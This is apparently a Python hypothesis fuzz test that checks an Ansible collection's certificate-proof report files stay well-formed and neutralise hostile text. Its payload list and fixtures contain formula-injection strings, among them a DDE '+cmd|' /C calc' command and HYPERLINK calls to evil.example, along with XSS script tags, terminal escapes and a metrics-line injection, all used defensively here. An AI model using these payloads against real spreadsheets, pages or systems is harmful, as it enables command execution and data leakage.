# Copyright: (c) 2026, eeszt.connect developers
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Every report file is well-formed, whatever type-correct proofs the sites sent (issue 21, points 2 and 5).

Each example writes an archive of type-correct proofs (the fields of DESIGN.md's proof document, the types
the check writes them with) whose text is any Unicode: control characters, lone surrogates (a site can send
``"\\ud800"`` in its JSON), formula prefixes (``=``, ``+``, ``-``, ``@``, tab, carriage return), markup, and
extreme numbers and dates; run records and a rotation log with such text too. ``build_report`` (what
eeszt.connect.proofs_report runs) then writes the report, and each file must be well-formed:

- ``index.json`` parses as strict JSON (no NaN or Infinity) from strict UTF-8;
- ``report.csv`` parses with the csv module, holds no control character but tab, CR and LF (inside quoted
  cells), every cell that a site or an inventory supplied and that starts with a formula character is
  neutralised with a leading ``'``, and the numbers the report computes (days left, proofs, age) stay numbers;
- ``junit.xml`` parses with ElementTree;
- ``report.html`` holds no character HTML forbids and no ``<script`` but its own;
- ``metrics.prom`` follows the text exposition grammar (and ``promtool check metrics`` accepts it: skipped by
  name without promtool, a failure under CI).
"""

import csv
import datetime
import html.parser
import io
import json
import os
import re
import shutil
import subprocess
import tempfile
import xml.etree.ElementTree as ET

import prerequisites
from hypothesis import example, given, settings
from hypothesis import strategies as st

from ansible_collections.eeszt.connect.plugins.plugin_utils.proofs.ledger import RUN_SCHEMA
from ansible_collections.eeszt.connect.plugins.plugin_utils.proofs.schema import MS_MAX, NAME_MAX, validate
from ansible_collections.eeszt.connect.plugins.plugin_utils.report.report import build_report
from ansible_collections.eeszt.connect.plugins.plugin_utils.report.runs import normalize_outcome

NOW = datetime.datetime(2026, 12, 7, 12, 0, 0, tzinfo=datetime.timezone.utc)
SITES = (("100001", "100001001"), ("100001", "100001002"), ("100002", "100002001"))
CATEGORIES = ("dns", "tcp_refused", "tcp_timeout", "proxy", "tls_server_untrusted", "tls_hostname_mismatch",
              "tls_client_cert_rejected", "tls_protocol", "http_status", "timeout", "client_cert_invalid")
FORMULA = ("=", "+", "-", "@", "\t", "\r")
# The CSV columns whose value the report computes itself: numbers, written as numbers.
OWN_NUMBERS = ("certificate_days_left", "proofs", "proof_age_days")
PAYLOADS = ("", "=", "+", "-", "@", "\t", "\r", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "<script>alert(1)</script>", "</script><script>x()",
            "\x1b[31m", "\x00", "\x0b", "\x0c", "\x7f", "\x9b", "\ud800", "\udfff", "\ufffe", "\uffff", "\ufdd0",
            "]]>", "\"", "'", "\\", "\n", "&amp;", "\u2028", "\U0001f600")

# Any code point, surrogates included (category Cs is what hypothesis leaves out by default).
ANY_CHAR = st.characters(exclude_categories=())
SITE_TEXT = st.builds(lambda head, body, tail: head + body + tail, st.sampled_from(PAYLOADS),
                      st.lists(ANY_CHAR | st.sampled_from(PAYLOADS), max_size=16).map("".join),
                      st.sampled_from(PAYLOADS))
# The texts the schema keeps free of C0 controls and DEL (host, URL, tool): the rest of the nastiness stays.
PLAIN_TEXT = SITE_TEXT.map(lambda text: re.sub("[\x00-\x1f\x7f]", "", text))
# Up to 18 payloads of up to 47 characters: a name is cut to the schema's limit (a longer one is an invalid
# proof, which tests/unit/fuzz/test_fuzz_report_invalid.py covers), or the generator's own check fails.
NAME_TEXT = SITE_TEXT.map(lambda text: text[:NAME_MAX])
PLAIN_NAME = PLAIN_TEXT.map(lambda text: text[:NAME_MAX])
TOOL_NAME_MAX = 128
HEX = "0123456789abcdefABCDEF"
# A serial is hex and may be negative: "-1F" starts with a formula character.
SERIALS = st.builds(lambda sign, digits: sign + digits, st.sampled_from(("", "-")), st.text(HEX, min_size=1, max_size=40))
FINGERPRINTS = st.text("0123456789abcdef", min_size=64, max_size=64)


def _iso(moment):
    return "%04d-%02d-%02dT%02d:%02d:%02dZ" % (moment.year, moment.month, moment.day, moment.hour, moment.minute,
                                               moment.second)


# From year 1 to 9999: far past, far future and around the report's own time.
DATES = st.one_of(
    st.datetimes(min_value=datetime.datetime(1, 1, 1), max_value=datetime.datetime(9999, 12, 31, 23, 59, 59)),
    st.datetimes(min_value=datetime.datetime(2026, 11, 1), max_value=datetime.datetime(2027, 2, 1)),
).map(_iso)
# Every duration the schema admits: integers and floats from 0 to one day, its edges included.
NUMBERS = st.one_of(st.integers(min_value=0, max_value=MS_MAX), st.floats(min_value=0, max_value=MS_MAX),
                    st.sampled_from((0, MS_MAX)), st.integers(min_value=0, max_value=60000))


def _failure():
    return st.fixed_dictionaries({
        "category": st.sampled_from(CATEGORIES), "endpoint": SITE_TEXT, "step": st.sampled_from(("dns", "tcp", "tls", "http")),
        "message": SITE_TEXT, "hint": SITE_TEXT})


def _endpoint():
    step = st.fixed_dictionaries({"name": st.sampled_from(("dns", "tcp", "tls", "http")), "ok": st.booleans(),
                                  "ms": NUMBERS, "details": st.fixed_dictionaries({"detail": SITE_TEXT})})
    return st.fixed_dictionaries({
        "name": NAME_TEXT, "url": PLAIN_TEXT, "method": st.sampled_from(("GET", "POST")),
        "expect_status": st.integers(min_value=100, max_value=599), "passed": st.booleans(), "ms": NUMBERS,
        "steps": st.lists(step, max_size=4), "failure": st.none() | _failure()})


@st.composite
def proofs(draw, institution, site):
    passed = draw(st.booleans())
    document = {
        "schema": "eeszt.connect/proof/v1", "institution_id": institution, "site_id": site, "host": draw(PLAIN_NAME),
        "environment": draw(st.sampled_from(("test", "production"))), "started_at": draw(DATES),
        "finished_at": draw(DATES),
        "client_certificate": {"subject": draw(SITE_TEXT), "issuer": draw(SITE_TEXT), "serial": draw(SERIALS),
                               "sha256": draw(FINGERPRINTS), "not_before": draw(DATES), "not_after": draw(DATES)},
        "endpoints": draw(st.lists(_endpoint(), max_size=3)),
        "passed": passed,
        "failure": None if passed else draw(_failure()),
        "tool": {"name": draw(PLAIN_TEXT.map(lambda text: text[:TOOL_NAME_MAX])), "version": draw(PLAIN_TEXT.map(lambda text: text[:64]))},
    }
    # The generator stays honest: every proof it makes is one the schema admits (the schema's own fuzz test
    # feeds the builder invalid ones: tests/unit/fuzz/test_fuzz_report_invalid.py).
    assert validate(document) is None, validate(document)
    return document


@st.composite
def archives(draw):
    """{"proofs": {(institution, site): [documents]}, "outcomes": [...], "rotations": [...]}."""
    chosen = draw(st.lists(st.sampled_from(SITES), min_size=1, max_size=3, unique=True))
    documents = dict((key, draw(st.lists(proofs(*key), min_size=0, max_size=3))) for key in chosen)
    outcomes = []
    for institution, site in chosen:
        status = draw(st.sampled_from(("collected", "unreachable", "error")))
        outcomes.append({"host": draw(SITE_TEXT), "institution_id": institution, "site_id": site, "status": status,
                         "stage": "proofs" if status == "error" else None,
                         "error": draw(st.sampled_from(("archive_failed", "seal_failed", None))),
                         "reason": draw(SITE_TEXT), "archived": []})
    if draw(st.booleans()):
        outcomes.append({"host": "x" + draw(SITE_TEXT), "status": "refused", "stage": "preflight", "error": "invalid_site_id",
                         "reason": draw(SITE_TEXT)})
    rotations = [{"institution_id": institution, "site_id": site, "status": draw(SITE_TEXT), "at": draw(DATES),
                  "host": draw(SITE_TEXT), "category": draw(SITE_TEXT), "message": draw(SITE_TEXT),
                  "check_passed": draw(st.booleans())} for institution, site in chosen if draw(st.booleans())]
    return {"proofs": documents, "outcomes": outcomes, "rotations": rotations, "run_at": draw(DATES)}


def write_archive(root, drawn):
    """The archive on disk as the proofs stage leaves it (proofs as a site may send them: JSON with \\u escapes)."""
    for (institution, site), documents in drawn["proofs"].items():
        folder = os.path.join(root, institution, site)
        os.makedirs(folder)
        for number, document in enumerate(documents):
            with open(os.path.join(folder, "proof_%d.json" % number), "w", encoding="ascii") as handle:
                json.dump(document, handle, ensure_ascii=True)
    os.makedirs(os.path.join(root, "runs"))
    record = {"schema": RUN_SCHEMA, "run_id": "fuzz", "sequence": 1, "controller": "controller",
              "started_at": drawn["run_at"], "finished_at": drawn["run_at"],
              "outcomes": [normalize_outcome(outcome) for outcome in drawn["outcomes"]]}
    with open(os.path.join(root, "runs", "run.json"), "w", encoding="ascii") as handle:
        json.dump(record, handle, ensure_ascii=True)
    if drawn["rotations"]:
        with open(os.path.join(root, "rotation.jsonl"), "w", encoding="ascii") as handle:
            handle.write("".join(json.dumps(entry, ensure_ascii=True) + "\n" for entry in drawn["rotations"]))


# --- the checks of each file -------------------------------------------------------------

# Characters no report file may carry raw: C0 controls but tab, LF and CR; DEL and the C1 controls; the
# noncharacters U+FDD0..U+FDEF and U+xFFFE/U+xFFFF. (Lone surrogates cannot be in text decoded as strict UTF-8.)
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufdd0-\ufdef"
                       + "".join("\\U%08x\\U%08x" % (plane * 0x10000 + 0xfffe, plane * 0x10000 + 0xffff)
                                 for plane in range(17)) + "]")


def _reject_constant(name):
    raise ValueError("not JSON: %s" % name)


def check_index(data):
    document = json.loads(data.decode("utf-8"), parse_constant=_reject_constant)
    assert isinstance(document, dict) and isinstance(document["sites"], list)
    return document


def check_csv(data, index):
    text = data.decode("utf-8")
    assert not FORBIDDEN.search(text), repr(FORBIDDEN.search(text).group())
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    assert len(rows) == len(index["sites"])
    by_site = dict(((s["institution_id"], s["site_id"]), s) for s in index["sites"])
    for row in rows:
        site = by_site[(row["institution_id"], row["site_id"])]
        for column, cell in row.items():
            assert cell is not None, (column, row)
            if column in OWN_NUMBERS:
                assert re.match(r"^(-?[0-9]+)?$", cell), (column, cell)
                continue
            assert not cell.startswith(FORMULA), (column, cell)
        expected = "" if site["certificate_days_left"] is None else "%d" % site["certificate_days_left"]
        assert row["certificate_days_left"] == expected
        assert row["host"] == expected_cell(site["host"])
        assert row["failure_message"] == expected_cell((site["failure"] or {}).get("message"))
        assert row["certificate_serial"] == expected_cell(site["certificate_serial"])


def expected_cell(value):
    """The CSV cell of a site's text, by the rule (independent of the code under test): every forbidden
    character (and a lone surrogate) is U+FFFD, and a cell starting with a formula character gets a leading '."""
    if value is None:
        return ""
    text = FORBIDDEN.sub("\ufffd", re.sub("[\ud800-\udfff]", "\ufffd", value))
    return "'" + text if text.startswith(FORMULA) else text


def check_junit(data, index):
    root = ET.fromstring(data)
    cases = root.findall("./testsuite/testcase")
    assert len(cases) == len(index["sites"]) + len(index.get("refused") or []) + len(index.get("invalid_files") or [])


class _Tags(html.parser.HTMLParser):

    def __init__(self):
        html.parser.HTMLParser.__init__(self, convert_charrefs=True)
        self.scripts = 0

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self.scripts += 1


def check_html(data):
    text = data.decode("utf-8")
    found = FORBIDDEN.search(text)
    assert not found, repr(found.group())
    assert text.lower().count("<script") == 1
    parser = _Tags()
    parser.feed(text)
    parser.close()
    assert parser.scripts == 1


NAME = r"[a-zA-Z_:][a-zA-Z0-9_:]*"
LABEL_VALUE = r'"(?:[^"\\\n]|\\[\\"n])*"'
LABELS = r"\{(?:[a-zA-Z_][a-zA-Z0-9_]*=%s(?:,[a-zA-Z_][a-zA-Z0-9_]*=%s)*)?\}" % (LABEL_VALUE, LABEL_VALUE)
VALUE = r"(?:[+-]?(?:[0-9]+(?:\.[0-9]*)?(?:[eE][+-]?[0-9]+)?|Inf)|NaN)"
PROM_LINE = re.compile(r"^(?:# HELP %s (?:[^\\\n]|\\[\\n])*|# TYPE %s (?:counter|gauge|histogram|summary|untyped)"
                       r"|%s(?:%s)? %s)$" % (NAME, NAME, NAME, LABELS, VALUE))


def check_metrics(data):
    text = data.decode("utf-8")
    assert text.endswith("\n")
    found = FORBIDDEN.search(text)
    assert not found, repr(found.group())
    for line in text[:-1].split("\n"):
        assert PROM_LINE.match(line), repr(line)


def outputs(root):
    return dict((name, open(os.path.join(root, name), "rb").read())
                for name in ("index.json", "report.csv", "junit.xml", "report.html", "metrics.prom"))


def build(drawn, language="en"):
    root = tempfile.mkdtemp(prefix="eeszt-report-fuzz-")
    try:
        write_archive(root, drawn)
        dummy, index = build_report(root, now=NOW, language=language)
        return index, outputs(root)
    finally:
        shutil.rmtree(root)


def check_all(index, files):
    check_index(files["index.json"])
    check_csv(files["report.csv"], index)
    check_junit(files["junit.xml"], index)
    check_html(files["report.html"])
    check_metrics(files["metrics.prom"])


# A fixed nasty archive, pinned as an explicit example: every payload the schema admits in one site.
NASTY = {
    "proofs": {SITES[0]: [{
        "schema": "eeszt.connect/proof/v1", "institution_id": SITES[0][0], "site_id": SITES[0][1],
        "host": "=HYPERLINK(\"http://evil.example\",\"x\")\x9b", "environment": "test",
        "started_at": "2026-12-07T10:00:00Z", "finished_at": "2026-12-07T10:00:01Z",
        "client_certificate": {"subject": "@SUM(1)\ud800", "issuer": "+cmd|' /C calc'!A0", "serial": "-2F3",
                               "sha256": "0" * 64, "not_before": "0001-01-01T00:00:00Z",
                               "not_after": "2026-12-04T12:00:00Z"},
        "endpoints": [{"name": "</script><script>alert(1)", "url": "=1", "method": "GET", "expect_status": 200,
                       "passed": False, "ms": None, "steps": [], "failure": None}],
        "passed": False,
        "failure": {"category": "http_status", "endpoint": "\r=1", "step": "http",
                    "message": "\x1b[2J\x00\x0b=HYPERLINK(\"x\")\ufffe\udfff", "hint": "+cmd|' /C calc'!A0"},
        "tool": {"name": "eeszt.connect", "version": "\x9b"}}]},
    "outcomes": [{"host": "@host\x1b", "institution_id": SITES[0][0], "site_id": SITES[0][1], "status": "error",
                  "stage": "proofs", "error": "archive_failed", "reason": "-1\x00\x1b]0;title\x07", "archived": []},
                 {"host": "=refused\x00", "status": "refused", "stage": "preflight", "error": "invalid_site_id",
                  "reason": "\x0b=bad"}],
    "rotations": [{"institution_id": SITES[0][0], "site_id": SITES[0][1], "status": "failed", "at": "2026-12-07T11:30:00Z",
                   "host": "x", "category": "tls\"}\nevil 1\x00", "message": "=m", "check_passed": False}],
    "run_at": "2026-12-07T11:00:00Z",
}


# The same archive before the schema: a proof no collection accepts today, as an older archive may hold it.
# The builder names it (invalid_files) and every file stays well-formed.
NASTY_INVALID = {
    "proofs": {SITES[0]: [{
        "schema": "eeszt.connect/proof/v1", "institution_id": SITES[0][0], "site_id": SITES[0][1],
        "host": "=HYPERLINK(\"http://evil.example\",\"x\")\x1b\x00", "environment": "test",
        "started_at": "2026-12-07T10:00:00Z", "finished_at": "2026-12-07T10:00:01Z",
        "client_certificate": {"subject": "@SUM(1)\ud800", "issuer": "+cmd|' /C calc'!A0", "serial": "-2+3",
                               "sha256": "\t=1", "not_before": "0001-01-01T00:00:00Z",
                               "not_after": "2026-12-04T12:00:00Z"},
        "endpoints": [{"name": "</script><script>alert(1)", "url": "\x0b\x0c", "method": "GET", "expect_status": 200,
                       "passed": False, "ms": float("inf"), "steps": [], "failure": None}],
        "passed": False,
        "failure": {"category": "http_status", "endpoint": "\r=1", "step": "http",
                    "message": "\x1b[2J\x00\x0b=HYPERLINK(\"x\")\ufffe\udfff", "hint": "+cmd|' /C calc'!A0"},
        "tool": {"name": "eeszt.connect", "version": "\x7f\x9b"}}]},
    "outcomes": [{"host": "@host\x1b", "institution_id": SITES[0][0], "site_id": SITES[0][1], "status": "error",
                  "stage": "proofs", "error": "archive_failed", "reason": "-1\x00\x1b]0;title\x07", "archived": []},
                 {"host": "=refused\x00", "status": "refused", "stage": "preflight", "error": "invalid_site_id",
                  "reason": "\x0b=bad"}],
    "rotations": [{"institution_id": SITES[0][0], "site_id": SITES[0][1], "status": "failed", "at": "2026-12-07T11:30:00Z",
                   "host": "x", "category": "tls\"}\nevil 1\x00", "message": "=m", "check_passed": False}],
    "run_at": "2026-12-07T11:00:00Z",
}


@settings(max_examples=150, deadline=None)
@example(drawn=NASTY)
@example(drawn=NASTY_INVALID)
@given(drawn=archives())
def test_every_report_file_is_well_formed_for_any_type_correct_proofs(drawn):
    index, files = build(drawn)
    check_all(index, files)


def test_the_nasty_archive_neutralises_each_site_value_and_keeps_the_report_s_numbers():
    """The pinned example, cell by cell: formula cells get a leading quote, control characters become U+FFFD,
    the days left that the report computes (-3: the certificate expired three days ago) stay a number."""
    index, files = build(NASTY)
    check_all(index, files)
    rows = list(csv.DictReader(io.StringIO(files["report.csv"].decode("utf-8"), newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert row["host"] == "'=HYPERLINK(\"http://evil.example\",\"x\")\ufffd"
    # The latest failure is the rotation's (after the proof and the failed proofs stage): its category from the
    # rotation log, on one line.
    assert (row["status"], row["failure_stage"], row["failure_category"], row["failure_message"]) == (
        "failed", "rotation", "tls\"} evil 1\ufffd", "'=m")
    assert row["certificate_serial"] == "'-2F3"
    assert row["certificate_days_left"] == "-3"
    assert row["proofs"] == "1"
    assert "\x1b" not in files["report.csv"].decode("utf-8")
    junit = ET.fromstring(files["junit.xml"])
    assert junit.get("tests") == "2"
    index_document = json.loads(files["index.json"].decode("utf-8"), parse_constant=_reject_constant)
    # index.json keeps the site's text (JSON escapes control characters); only what UTF-8 cannot hold
    # (a lone surrogate) and what JSON cannot hold (Infinity) are replaced.
    site = index_document["sites"][0]
    assert site["certificate_subject"] == "@SUM(1)\ufffd"
    assert site["host"] == "=HYPERLINK(\"http://evil.example\",\"x\")\x9b"
    assert [p["duration_ms"] for p in index_document["proofs"]] == [None]
    promtool = prerequisites.need("promtool")
    checked = subprocess.run([promtool, "check", "metrics"], input=files["metrics.prom"], stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, timeout=60, check=False)
    assert checked.returncode == 0 and not checked.stderr, checked.stderr


def test_an_invalid_proof_in_an_older_archive_is_named_and_every_file_stays_well_formed():
    """The nasty proof as it was before the schema (control characters in host and URL, a serial that is no
    hex, Infinity): the builder names it with the schema's reason and renders that reason safely."""
    index, files = build(NASTY_INVALID)
    check_all(index, files)
    assert [entry["path"] for entry in index["invalid_files"]] == ["%s/%s/proof_0.json" % SITES[0]]
    junit = ET.fromstring(files["junit.xml"])
    assert junit.get("tests") == "3"
